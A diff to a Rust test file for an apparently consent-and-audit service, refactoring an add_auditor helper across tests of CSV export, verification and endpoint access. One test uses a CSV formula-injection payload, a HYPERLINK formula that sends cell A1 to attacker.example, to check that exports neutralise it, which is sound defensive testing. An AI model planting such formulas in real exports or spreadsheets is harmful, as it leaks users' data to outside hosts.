@@ -19,7 +19,7 @@ async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_the_export_still_veri
     let Some(app) = spawn_app(backend).await else {
         return;
     };
-    let key = add_auditor(&app, "dpo");
+    let key = app.add_auditor("dpo");
     let payload = r#"=HYPERLINK("http://attacker.example/?"&A1,"click")"#;
     let response = app
         .client
@@ -67,17 +67,6 @@ async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_the_export_still_veri
     );
 }
 
-/// Adds an auditor through the CLI and returns the key it printed.
-fn add_auditor(app: &TestApp, name: &str) -> String {
-    let output = app.cli(&["auditors", "add", name]);
-    assert!(
-        output.status.success(),
-        "{}",
-        String::from_utf8_lossy(&output.stderr)
-    );
-    String::from_utf8(output.stdout).unwrap().trim().to_owned()
-}
-
 async fn export(app: &TestApp, key: &str, query: &str) -> Vec<u8> {
     let response = app
         .get_with_key(&format!("/v1/audit/events?{query}"), key)
@@ -113,7 +102,7 @@ async fn export_round_trip_verifies_offline_and_every_tampering_is_named(backend
     let Some(app) = spawn_app(backend).await else {
         return;
     };
-    let key = add_auditor(&app, "dpo");
+    let key = app.add_auditor("dpo");
     for i in 0..6 {
         app.consent(all("www", i % 2 == 0)).await;
     }
@@ -234,7 +223,7 @@ fn offline_cli(app: &TestApp, file: &str) -> std::process::Output {
 #[tokio::test]
 async fn site_and_period_filters_elide_other_events_and_still_verify() {
     let app = spawn_app(Backend::Sqlite).await.unwrap();
-    let key = add_auditor(&app, "dpo");
+    let key = app.add_auditor("dpo");
     app.consent(all("www", true)).await;
     let app_body = json!({"site": "app", "policy_version": crate::helpers::current_version("app"), "choices": {"necessary": true, "support": true}});
     assert_eq!(app.post_consent(&app_body).await.status(), 201);
@@ -265,7 +254,7 @@ async fn site_and_period_filters_elide_other_events_and_still_verify() {
 #[tokio::test]
 async fn every_audit_endpoint_needs_a_valid_unrevoked_key_and_exports_are_logged() {
     let app = spawn_app(Backend::Sqlite).await.unwrap();
-    let key = add_auditor(&app, "dpo");
+    let key = app.add_auditor("dpo");
     let endpoints = [
         ("GET", "/v1/audit/events"),
         ("GET", "/v1/audit/checkpoints"),
@@ -362,7 +351,7 @@ async fn cli_export_verifies_offline() {
 #[tokio::test]
 async fn a_time_bound_the_ledger_cannot_hold_is_a_400_naming_the_field() {
     let app = spawn_app(Backend::Sqlite).await.unwrap();
-    let key = add_auditor(&app, "dpo");
+    let key = app.add_auditor("dpo");
     app.consent(all("www", true)).await;
     for path in ["/v1/audit/events", "/v1/audit/stats", "/audit/report"] {
         for (field, value) in [
